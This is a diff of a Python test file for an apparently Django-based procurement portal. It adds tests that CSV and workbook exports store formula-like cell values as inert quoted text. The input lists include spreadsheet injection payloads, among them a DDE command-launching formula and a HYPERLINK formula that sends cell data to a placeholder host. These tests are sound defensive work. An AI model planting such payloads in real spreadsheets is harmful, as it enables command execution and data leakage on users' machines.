@@ -14,6 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
+from catalogue.entry_files import csv_of
 from catalogue.importing import read_catalogue
 from portal.administration import calendar_file
 from portal.files.cells import RISKY, plain_cell, safe_cell
@@ -21,10 +22,13 @@ from portal.reports.workbook import Column, render_xlsx
 from portal.workdays.calendars import load_year
 from portal.workdays.models import Calendar
 from portal.workdays.statutory import statutory_holidays
+from procurement.plans.book import render as annex
 from procurement.plans.workbooks.cells import FORMULA
 from procurement.plans.workbooks.writing import Row, render
 from tests.factories.catalogue import HEADER, make_version
+from tests.factories.implementation import AGENCY, make_implementation
 from tests.factories.people import actor
+from tests.factories.plans import make_plan_item
 
 FORMULAS = [
     "=1+1", "=cmd|'/c calc'!A0", "+8610", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"点击")', "\t=1", "\r=1", "\n=1", "＝1+1", "＋1",
@@ -108,11 +112,34 @@ def test_a_cell_of_a_plan_workbook_is_text(text):
     assert all(cell.quotePrefix for cell in said if text.startswith(RISKY))
 
 
+@pytest.mark.django_db
+def test_an_implementation_catalogue():
+    named = make_implementation(lines=(f"=1+1,A1001,,{AGENCY},公开招标,100.00,是,,,-2+3,",))
+    assert named.entries.get().title == "=1+1"
+    cells = [cell for row in csv.reader(io.StringIO(csv_of(named).lstrip("\ufeff"))) for cell in row]
+    assert "'=1+1" in cells
+    assert not [cell for cell in cells if computed(cell)]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("text", ["=1+1", "+8610", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"点击")'])
+def test_the_annex_of_a_plan(text):
+    item = make_plan_item(title=text, content=text)
+    book = load_workbook(io.BytesIO(annex(item.plan, [item], as_of="2026-11-20")))
+    said = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
+    assert len(said) >= 2
+    assert {cell.data_type for cell in said} == {"s"}
+    assert all(cell.quotePrefix for cell in said)
+
+
 def test_whoever_writes_a_table_is_known_here():
     """A new export must take the same way and be tried above; the measuring of workbooks writes one of its own to compare."""
     apps = [Path(settings.BASE_DIR) / name for name in ("catalogue", "evaluation", "portal", "procurement")]
     found = {str(path.relative_to(settings.BASE_DIR)) for app in apps for path in app.rglob("*.py") if WRITERS.search(path.read_text())}
     assert found == {
-        "catalogue/comparison.py", "catalogue/listing.py", "portal/administration/calendar_file.py", "portal/bench_work.py",
-        "portal/reports/workbook.py", "procurement/plans/consolidated.py", "procurement/plans/workbooks/writing.py",
+        "catalogue/comparison.py", "catalogue/entry_files.py", "catalogue/listing.py", "evaluation/assessments/next_year_files.py",
+        "portal/administration/calendar_file.py", "portal/bench_work.py", "portal/reports/workbook.py",
+        "portal/workbench/portfolio_documents.py", "procurement/budgets/books.py", "procurement/budgets/use_report.py",
+        "procurement/plans/book.py", "procurement/plans/consolidated.py", "procurement/plans/views/intentions.py",
+        "procurement/plans/views/totals.py", "procurement/plans/workbooks/writing.py",
     }
